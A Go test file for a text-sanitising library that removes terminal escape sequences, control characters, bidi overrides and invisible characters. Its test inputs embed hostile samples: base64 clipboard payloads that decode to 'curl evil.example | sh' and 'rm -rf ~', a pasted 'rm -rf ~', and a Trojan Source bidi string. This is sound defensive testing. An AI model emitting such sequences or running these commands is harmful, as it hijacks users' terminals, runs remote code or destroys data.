package textclean

import (
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

const (
	termBEL = "\x07"
	termST  = "\x1b\\"
)

// normalizeCases are shared by the table test and the fuzz seeds.
var normalizeCases = []struct {
	name, in, want string
}{
	// Text that must pass through untouched.
	{"empty", "", ""},
	{"plain ascii", "MS. LEAVITT: Good afternoon, everybody.\n\nQ Good afternoon.\n", "MS. LEAVITT: Good afternoon, everybody.\n\nQ Good afternoon.\n"},
	{"curly quotes and dashes", "“‘The bill was a game changer,’ said Williams.” — ok…", "“‘The bill was a game changer,’ said Williams.” — ok…"},
	{"cjk", "記者会見で首相は「日本とインド」について話した。한국어 텍스트", "記者会見で首相は「日本とインド」について話した。한국어 텍스트"},
	{"accents precomposed and combining", "Café naïve e\u0301 Z\u0351\u0354a\u0300", "Café naïve e\u0301 Z\u0351\u0354a\u0300"},
	{"emoji wide flags skin tones", "👍🏽 🇮🇳 🇯🇵 😀 ❤️", "👍🏽 🇮🇳 🇯🇵 😀 ❤️"},
	{"replacement character kept", "a\uFFFDb", "a\uFFFDb"},
	{"other format characters kept", "a\u2061\u2065b\u206Ac", "a\u2061\u2065b\u206Ac"},

	// Line breaks.
	{"crlf", "one\r\ntwo\r\n", "one\ntwo\n"},
	{"lone cr", "one\rtwo\r", "one\ntwo\n"},
	{"cr cr lf", "one\r\r\ntwo", "one\n\ntwo"},
	{"line separator", "one\u2028two", "one\ntwo"},
	{"paragraph separator", "one\u2029two", "one\ntwo"},
	{"form feed", "page one\fpage two", "page one\npage two"},
	{"vertical tab", "one\vtwo", "one\ntwo"},

	// Spaces.
	{"tab", "Q\tWhat?\t\t", "Q What?  "},
	{"nbsp", "Mr.\u00A0Price", "Mr. Price"},
	{"en quad to hair space", "a\u2000b\u2005c\u2009d\u200Ae", "a b c d e"},
	{"narrow nbsp", "10\u202Fkm", "10 km"},
	{"medium math space", "a\u205Fb", "a b"},
	{"ideographic space", "日本\u3000インド", "日本 インド"},

	// OSC.
	{"osc 52 clipboard bel", "MS. LEAVITT: hi\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + termBEL + " there", "MS. LEAVITT: hi there"},
	{"osc 52 clipboard st", "a\x1b]52;c;cm0gLXJmIH4=" + termST + "b", "ab"},
	{"osc 0 title", "\x1b]0;pwned" + termBEL + "MS. LEAVITT: hello", "MS. LEAVITT: hello"},
	{"osc 2 title st", "x\x1b]2;title" + termST + "y", "xy"},
	{"osc 8 hyperlink keeps text", "see \x1b]8;;https://evil.example/" + termST + "the report\x1b]8;;" + termST + " now", "see the report now"},
	{"osc 8 hyperlink with bel", "\x1b]8;id=1;https://x.example/" + termBEL + "link\x1b]8;;" + termBEL, "link"},
	{"osc unterminated runs to end of line", "a\x1b]0;title never ends\nnext line", "a\nnext line"},
	{"osc unterminated runs to end of crlf line", "a\x1b]0;title\r\nnext", "a\nnext"},
	{"osc unterminated runs to lone cr", "a\x1b]0;title\rnext", "a\nnext"},
	{"osc unterminated runs to form feed", "a\x1b]0;title\fnext", "a\nnext"},
	{"osc unterminated runs to end of text", "kept\x1b]52;c;AAAA", "kept"},
	{"osc cancelled by can", "a\x1b]0;t\x18b", "ab"},
	{"osc cancelled by sub", "a\x1b]0;t\x1ab", "ab"},
	{"osc cut by new csi", "a\x1b]0;t\x1b[2Jb", "ab"},
	{"osc ended by 8-bit st", "a\x1b]0;t\u009Cb", "ab"},
	{"osc body with non-ascii", "a\x1b]0;日本 “x”" + termBEL + "b", "ab"},

	// CSI.
	{"csi clear screen", "\x1b[2J\x1b[Hbriefing", "briefing"},
	{"csi cursor moves", "a\x1b[10;20Hb\x1b[Ac\x1b[3Dd\x1b[5;1fe", "abcde"},
	{"csi sgr colours", "\x1b[1;31mred\x1b[0m \x1b[38;2;255;0;0mtrue\x1b[m", "red true"},
	{"csi private modes", "\x1b[?1049h\x1b[?25lhidden\x1b[?25h\x1b[?1049l", "hidden"},
	{"csi with intermediate", "a\x1b[2 qb", "ab"},
	{"bracketed paste markers", "Q \x1b[200~rm -rf ~\n\x1b[201~done", "Q rm -rf ~\ndone"},
	{"csi cut by newline", "a\x1b[12\nb", "a\nb"},
	{"csi cut by non-ascii", "a\x1b[12é", "aé"},
	{"csi at end of text", "a\x1b[", "a"},
	{"csi params at end of text", "a\x1b[1;2", "a"},

	// DCS, SOS, PM, APC.
	{"dcs decrqss", "a\x1bP$qm" + termST + "b", "ab"},
	{"dcs sixel", "a\x1bPq#0;2;0;0;0#1!6~-" + termST + "b", "ab"},
	{"sos", "a\x1bXstart of string" + termST + "b", "ab"},
	{"pm", "a\x1b^privacy message" + termST + "b", "ab"},
	{"apc kitty graphics", "a\x1b_Gf=100;AAAA" + termST + "b", "ab"},
	{"dcs unterminated to end of line", "a\x1bPpayload\nb", "a\nb"},
	{"tmux passthrough", "a\x1bPtmux;\x1b\x1b]52;c;AAAA" + termBEL + termST + "b", "ab"},

	// Other escape sequences.
	{"esc c full reset", "a\x1bcb", "ab"},
	{"esc 7 and 8 save restore cursor", "a\x1b7b\x1b8c", "abc"},
	{"esc keypad modes", "a\x1b=b\x1b>c", "abc"},
	{"esc reverse index", "a\x1bMb", "ab"},
	{"esc designate charset", "a\x1b(0lqk\x1b(Bb", "alqkb"},
	{"esc decaln", "a\x1b#8b", "ab"},
	{"esc space f s7c1t", "a\x1b Fb", "ab"},
	{"esc stray st", "a" + termST + "b", "ab"},
	{"esc lone at end", "a\x1b", "a"},
	{"esc before newline", "a\x1b\nb", "a\nb"},
	{"esc before non-ascii", "a\x1bé", "aé"},
	{"esc esc csi", "a\x1b\x1b[2Jb", "ab"},
	{"esc intermediates at end", "a\x1b(", "a"},

	// 8-bit C1 controls as code points.
	{"c1 csi clear", "a\u009B2Jb", "ab"},
	{"c1 csi cursor", "a\u009B10;20Hb", "ab"},
	{"c1 osc title bel", "a\u009D0;pwned\x07b", "ab"},
	{"c1 osc st", "a\u009D52;c;AAAA\u009Cb", "ab"},
	{"c1 dcs", "a\u0090$qm\u009Cb", "ab"},
	{"c1 sos pm apc", "a\u0098x\u009Cb\u009Ey\u009Cc\u009Fz\u009Cd", "abcd"},
	{"c1 nel dropped", "a\u0085b", "ab"},
	{"c1 others dropped", "a\u0080\u0084\u0088\u008E\u008F\u0099b", "ab"},
	{"c1 lone st dropped", "a\u009Cb", "ab"},

	// C0 controls and DEL.
	{"bel", "ding\x07!", "ding!"},
	{"backspace", "abc\x08\x08\x08xyz", "abcxyz"},
	{"nul", "a\x00b", "ab"},
	{"other c0", "a\x01\x02\x0e\x1c\x1fb", "ab"},
	{"del", "a\x7fb", "ab"},

	// Bidi controls.
	{"bidi embeddings and overrides", "a\u202Ab\u202Bc\u202Cd\u202De\u202Ef", "abcdef"},
	{"bidi override trojan source", "MS. LEAVITT: \u202Eolleh\u202C said", "MS. LEAVITT: olleh said"},
	{"bidi isolates", "a\u2066b\u2067c\u2068d\u2069e", "abcde"},
	{"bidi marks", "a\u200Eb\u200Fc\u061Cd", "abcd"},

	// Invisible characters.
	{"zero-width joiner inside a word", "pass\u200Dword", "password"},
	{"zero-width space and non-joiner", "a\u200Bb\u200Cc", "abc"},
	{"word joiner", "a\u2060b", "ab"},
	{"bom in the middle", "a\uFEFFb", "ab"},
	{"bom at start", "\uFEFFtext", "text"},
	{"soft hyphen", "brief\u00ADing", "briefing"},
	{"tag characters", "a\U000E0001\U000E0068\U000E0069\U000E007Fb", "ab"},
	{"emoji zwj sequence is split", "👨\u200D👩\u200D👧", "👨👩👧"},

	// Invalid UTF-8.
	{"invalid byte", "a\xffb", "a\uFFFDb"},
	{"raw 8-bit csi byte", "a\x9b2Jb", "a\uFFFD2Jb"},
	{"truncated sequence", "a\xe2\x80", "a\uFFFD\uFFFD"},
	{"overlong slash", "a\xc0\xafb", "a\uFFFD\uFFFDb"},
	{"encoded surrogate", "a\xed\xa0\x80b", "a\uFFFD\uFFFD\uFFFDb"},
}

func TestNormalize(t *testing.T) {
	for _, tc := range normalizeCases {
		t.Run(tc.name, func(t *testing.T) {
			got := Normalize(tc.in)
			if got != tc.want {
				t.Errorf("Normalize(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if again := Normalize(got); again != got {
				t.Errorf("Normalize is not idempotent: Normalize(%q) = %q", got, again)
			}
			checkClean(t, got)
		})
	}
}

func TestNormalizeFastPathDoesNotAllocate(t *testing.T) {
	for _, s := range []string{
		"",
		"MS. LEAVITT: Good afternoon, everybody.\n\nQ Good afternoon.\n",
		"“‘The bill,’ said Williams.” 記者会見 👍🏽 e\u0301",
	} {
		var got string
		allocs := testing.AllocsPerRun(100, func() { got = Normalize(s) })
		if allocs != 0 {
			t.Errorf("Normalize(%q) made %v allocations, want 0", s, allocs)
		}
		if got != s {
			t.Errorf("Normalize(%q) = %q, want it unchanged", s, got)
		}
	}
}

// TestNormalizeEveryPosition puts each thing that must change at every offset
// of a long plain string, so the eight-byte fast path meets it in every lane.
func TestNormalizeEveryPosition(t *testing.T) {
	plain := strings.Repeat("abcdefghijklmnopqrstuvwxyz0123456789", 2)
	for _, bad := range []string{"\x00", "\x1f", "\x7f", "\t", "\r", "\x1b[2J", "\u0085", "\u00A0", "\u200D", "\xff", "é"} {
		for i := 0; i <= len(plain); i++ {
			in := plain[:i] + bad + plain[i:]
			got := Normalize(in)
			checkClean(t, got)
			if bad == "é" {
				if got != in {
					t.Fatalf("Normalize(%q) = %q, want it unchanged", in, got)
				}
				continue
			}
			if got == in {
				t.Fatalf("Normalize(%q) left %q in place", in, bad)
			}
		}
	}
}

func TestLine(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "briefing.txt", "briefing.txt"},
		{"newline", "two\nlines", "two lines"},
		{"crlf", "two\r\nlines", "two lines"},
		{"line separator", "a\u2028b", "a b"},
		{"title with osc", "\x1b]0;pwned\x07Press Briefing\n", "Press Briefing "},
		{"file name with csi", "brief\x1b[2Jing.txt", "briefing.txt"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Line(tc.in); got != tc.want {
				t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// checkClean fails t if s breaks any promise Normalize makes about its output.
func checkClean(t testing.TB, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("output %q is not valid UTF-8", s)
	}
	for i, r := range s {
		if forbidden(r) {
			t.Fatalf("output %q holds %U at byte %d", s, r, i)
		}
	}
}

// forbidden reports whether r may never appear in Normalize's output. It is
// written from the rules, independently of classify.
func forbidden(r rune) bool {
	switch {
	case r < 0x20:
		return r != '\n'
	case r == 0x7F, r >= 0x80 && r <= 0x9F:
		return true
	case r == '\u00A0', r == '\u00AD', r == '\u061C':
		return true
	case r >= 0x2000 && r <= 0x200F, r >= 0x2028 && r <= 0x202F:
		return true
	case r == '\u205F', r == '\u2060', r >= 0x2066 && r <= 0x2069:
		return true
	case r == '\u3000', r == '\uFEFF', r >= 0xE0000 && r <= 0xE007F:
		return true
	}
	return false
}

// TestScannerAgreesWithClassify checks, for every code point, that the byte
// level scan that finds changes agrees with the rules in classify.
func TestScannerAgreesWithClassify(t *testing.T) {
	for r := rune(0x80); r <= utf8.MaxRune; r++ {
		if r >= 0xD800 && r <= 0xDFFF {
			continue
		}
		s := string(r)
		if got := decodeValid(s); got != r {
			t.Fatalf("decodeValid(%q) = %U, want %U", s, got, r)
		}
		changes := classify(r) != keep
		if got := mayChange(s, 0); got != changes {
			t.Fatalf("mayChange(%U) = %v, want %v", r, got, changes)
		}
		if got := firstChange(s) == 0; got != changes {
			t.Fatalf("firstChange(%U) = %d, want a change: %v", r, firstChange(s), changes)
		}
	}
}

// TestValidLen checks validLen against utf8.DecodeRuneInString over every
// lead and second byte, with continuation bytes at the edges of their range.
func TestValidLen(t *testing.T) {
	edges := []byte{0x00, 0x7F, 0x80, 0x8F, 0x90, 0x9F, 0xA0, 0xBF, 0xC0, 0xFF}
	for c := 0x80; c <= 0xFF; c++ {
		for c1 := 0; c1 <= 0xFF; c1++ {
			for _, c2 := range edges {
				for _, c3 := range edges {
					for _, s := range []string{
						string([]byte{byte(c), byte(c1), c2, c3}),
						string([]byte{byte(c), byte(c1), c2}),
						string([]byte{byte(c), byte(c1)}),
						string([]byte{byte(c)}),
					} {
						r, size := utf8.DecodeRuneInString(s)
						want := size
						if r == utf8.RuneError && size == 1 {
							want = 0
						}
						if got := validLen(s, 0); got != want {
							t.Fatalf("validLen(%q) = %d, want %d", s, got, want)
						}
					}
				}
			}
		}
	}
}

// TestChanges checks Changes against Normalize itself, code point by code
// point.
func TestChanges(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xD800 && r <= 0xDFFF {
			continue // surrogates are not code points of UTF-8 text
		}
		s := string(r)
		if got, want := Changes(r), Normalize(s) != s; got != want {
			t.Errorf("Changes(%U) = %v, but Normalize changes it: %v", r, got, want)
		}
		if Changes(r) && !MayStartChange(s[0]) {
			t.Errorf("MayStartChange(%#x) = false, but %U starts with it and changes", s[0], r)
		}
		for i := 1; i < len(s); i++ {
			if MayStartChange(s[i]) {
				t.Errorf("MayStartChange(%#x) = true for a continuation byte of %U", s[i], r)
			}
		}
	}
}

// TestPath: a file name is shown as it is when it is clean, and otherwise
// quoted so that the output is clean text that gives the name back.
func TestPath(t *testing.T) {
	if got := Path("briefings/ü “x”.txt"); got != "briefings/ü “x”.txt" {
		t.Errorf("a clean name was changed: %q", got)
	}
	names := []string{"a\xffb.txt", "two\nlines.txt", "brief\x1b[2Jing.txt"}
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if Changes(r) {
			names = append(names, "a"+string(r)+"b.txt")
		}
	}
	for _, name := range names {
		got := Path(name)
		if Line(got) != got {
			t.Fatalf("Path(%q) = %q is not clean one-line text", name, got)
		}
		if back, err := strconv.Unquote(got); err != nil || back != name {
			t.Fatalf("Path(%q) = %q does not give the name back: %q, %v", name, got, back, err)
		}
	}
}
